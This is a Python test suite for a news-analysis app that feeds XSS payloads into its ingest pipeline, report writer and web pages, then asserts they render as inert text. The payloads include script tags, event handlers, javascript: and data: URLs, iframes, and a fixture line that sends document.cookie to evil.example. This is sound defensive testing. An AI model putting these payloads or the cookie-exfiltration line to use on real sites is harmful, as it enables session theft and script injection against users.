"""Hostile article text and metadata must come out of the report and the app as inert text.

The attack strings go in two ways: as raw HTML files through the real ingest
(reader + cleaner), and straight into every record field the pages show
(titles, sites, URLs, quotes, speakers, facts, keywords, substitutions), so the
templates are tested even where the cleaner would have removed the markup.
Each page is parsed and checked: no script but our own, no event handler, no
javascript:/data: URL, no SVG but our lineage graph and legend, no foreign
frames, objects, styles, bases or refreshes.
"""

from __future__ import annotations

import re
from datetime import datetime, timezone
from pathlib import Path

import lxml.html
from fastapi.testclient import TestClient

from copydesk.engines.local import ingest_into
from copydesk.records import (
    Article,
    DateRef,
    Fact,
    Family,
    Passage,
    Quote,
    Relation,
    Story,
    content_id,
)
from copydesk.report import write_report
from copydesk.store import open_store
from copydesk.web import create_app

XSS = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<a href=\"javascript:alert(4)\">click</a>",
    "\" onmouseover=\"alert(5)\" x=\"",
    "' onfocus='alert(6)' autofocus '",
    "<svg onload=alert(7)><circle r=9 /></svg>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(8)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<object data=\"javascript:alert(9)\"></object>",
    "javascript:alert(10)",
    "<svg><foreignObject><body onload=alert(11)></foreignObject></svg>",
    "<div style=\"background-image:url(javascript:alert(12))\">x</div>",
]
PAYLOAD = " ".join(XSS)

HOSTILE_HTML = """<!doctype html><html><head><meta charset="utf-8">
<title>Dam</script><script>alert('t')</script> warning</title>
<meta property="og:title" content="Dam &quot; onmouseover=&quot;alert(1)">
<meta property="og:site_name" content="<svg onload=alert(2)>">
<style>@import url(https://evil.example/a.css);</style>
<script>fetch('https://evil.example/'+document.cookie)</script></head>
<body onload="alert(3)"><article><h1>Dam warning issued</h1>
<p>Engineers at the Orrin dam issued a warning on Monday after water rose above the spillway
<img src=x onerror="alert(4)"> and residents were told to move to higher ground.</p>
<p>Officials said <a href="javascript:alert(5)">the evacuation</a> would last two days
<svg><script>alert(6)</script><a xlink:href="javascript:alert(7)"><text>x</text></a></svg>
and that shelters had opened in the school <iframe src="https://evil.example"></iframe>.</p>
<p>The dam operator said the structure itself was sound and inspections would continue.</p>
</article></body></html>"""

OWN_SCRIPT = "/static/web/app.js"


def _article(text: str, n: int) -> Article:
    return Article(
        id=content_id(text), source=f"hostile/{n}.html", text=text, title=f"Title {n} {PAYLOAD}",
        url=["javascript:alert(1)", "https://ok.example/a\" onclick=\"alert(2)",
             "data:text/html,<script>alert(3)</script>"][n % 3],
        site=f"Site {n} {XSS[n % len(XSS)]}", byline=PAYLOAD,
        published=datetime(2025, 6, n + 1, 8, tzinfo=timezone.utc), language="en",
    )


def _hostile_store(db: str, tmp_path: Path) -> dict[str, str]:
    store = open_store(db)
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "dam.html").write_text(HOSTILE_HTML, encoding="utf-8")
    ingest_into(store, [str(folder)])
    ingested = list(store.iter_articles())
    texts = [
        f"Reporters said the {PAYLOAD} flood reached the town on Monday. "
        f"Water rose quickly. The mayor said {XSS[n]} everyone was safe and dry." for n in range(3)
    ]
    arts = [_article(t, n) for n, t in enumerate(texts)]
    store.add_batch(arts)
    a, b = sorted((arts[0].id, arts[1].id))
    store.replace_records("relations", [Relation(
        a, b, "spun<script>alert(1)</script>", 0.9, PAYLOAD, a,
        (Passage(0, 80, 0, 80),), (("<b>flood</b>", "<i onclick=alert(1)>x</i>"),),
    )])
    store.replace_records("families", [Family("fam", a, (a, b))])
    store.annotate_articles("family_id", [(a, "fam"), (b, "fam")])
    all_ids = tuple(x.id for x in [*ingested, *arts])
    story = Story("s1", f"Flood {PAYLOAD}", "t", all_ids, arts[0].published, arts[2].published,
                  len(all_ids), 3, 2, keywords=tuple(XSS[:4]))
    store.replace_records("stories", [story])
    store.annotate_articles("story_id", [(i, "s1") for i in all_ids])
    store.replace_records("quotes", [Quote("q1", arts[0].id, 0, 10, PAYLOAD, XSS[1], None)])
    store.replace_records("dates", [DateRef("d1", arts[0].id, 0, 10, PAYLOAD,
                                            datetime(2025, 6, 2).date())])
    store.replace_records("facts", [Fact(
        "f1", "s1", XSS[0], XSS[4], XSS[2], XSS[3], (arts[0].id,), 1,
        ({"value": XSS[6], "article_ids": [arts[1].id, "<x>"], XSS[5]: XSS[7]},),
    )])
    store.close()
    return {"story": "s1", "ingested": ingested[0].id if ingested else "", "spun": arts[0].id}


def _unsafe_url(value: str) -> bool:
    cleaned = re.sub(r"[\x00-\x20]", "", value).lower()
    return cleaned.startswith(("javascript:", "data:", "vbscript:"))


def assert_inert(html: str, where: str, *, web: bool) -> None:
    doc = lxml.html.document_fromstring(html)
    scripts = doc.xpath("//script")
    if web:
        assert [s.get("src") for s in scripts] == [OWN_SCRIPT], where
        assert all(not (s.text or "").strip() for s in scripts), where
    else:
        assert scripts == [], where
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (where, el.tag, name, value)
            if name.lower() in ("href", "src", "action", "formaction", "xlink:href", "data",
                                "poster", "background"):
                assert not _unsafe_url(value), (where, el.tag, name, value)
            assert name.lower() != "style", (where, el.tag)
    for tag in ("iframe", "object", "embed", "base", "img", "math", "foreignobject", "form"):
        found = doc.xpath(f"//{tag}")
        if tag == "form" and web:
            continue  # our search and filter forms
        assert not found, (where, tag)
    assert not doc.xpath("//meta[@http-equiv='refresh']"), where
    assert len(doc.xpath("//style")) == (0 if web else 1), where
    assert len(doc.xpath("//link")) == (1 if web else 0), where
    # SVG only where we draw it: the lineage graph and the small legend swatches.
    for svg in doc.xpath("//svg"):
        ours = svg.get("class") == "lineage" or svg.getparent().get("class") == "legend-item"
        assert ours, (where, lxml.html.tostring(svg)[:200])
    for svg in doc.xpath("//svg//*"):
        assert svg.tag in ("defs", "marker", "path", "g", "title", "text", "a", "rect", "line"), (
            where, svg.tag)
    # The payload is still there, as text: nothing was silently dropped.
    assert "alert(" in doc.text_content(), where


def test_hostile_text_is_inert_in_report(tmp_path: Path) -> None:
    db = str(tmp_path / "h.db")
    _hostile_store(db, tmp_path)
    store = open_store(db)
    write_report(store, tmp_path / "out")
    store.close()
    pages = list((tmp_path / "out").glob("*.html"))
    assert len(pages) == 2
    for page in pages:
        assert_inert(page.read_text(encoding="utf-8"), page.name, web=False)
    md = (tmp_path / "out" / "report.md").read_text(encoding="utf-8")
    assert "<script" not in md and "<img" not in md and "](javascript:" not in md


def test_hostile_text_is_inert_in_app(tmp_path: Path) -> None:
    db = str(tmp_path / "h.db")
    ids = _hostile_store(db, tmp_path)
    client = TestClient(create_app(db, uploads=tmp_path / "up"))
    urls = ["/", f"/stories/{ids['story']}", "/search?q=flood", "/search?q=alert",
            "/articles", f"/articles/{ids['spun']}", "/search?q=dam",
            "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/search?q=%3Cscript%3E"]
    if ids["ingested"]:
        urls.append(f"/articles/{ids['ingested']}")
    for url in urls:
        r = client.get(url)
        assert r.status_code == 200, url
        if "alert" in r.text:  # pages that show some of the payload
            assert_inert(r.text, url, web=True)
    error = client.get("/stories/%3Cscript%3Ealert(1)%3C%2Fscript%3E")
    assert error.status_code == 404 and "<script>alert" not in error.text
    api = client.get(f"/api/stories/{ids['story']}")
    assert api.headers["content-type"] == "application/json"


def test_ingested_page_loses_its_markup(tmp_path: Path) -> None:
    db = str(tmp_path / "h.db")
    ids = _hostile_store(db, tmp_path)
    store = open_store(db)
    art = store.get_article(ids["ingested"]) if ids["ingested"] else None
    store.close()
    assert art is not None, "the hostile page was rejected instead of cleaned"
    assert "Orrin dam" in art.text
    client = TestClient(create_app(db, uploads=tmp_path / "up"))
    page = client.get(f"/articles/{art.id}").text
    assert_inert(page.replace("Orrin", "Orrin alert("), "ingested", web=True)
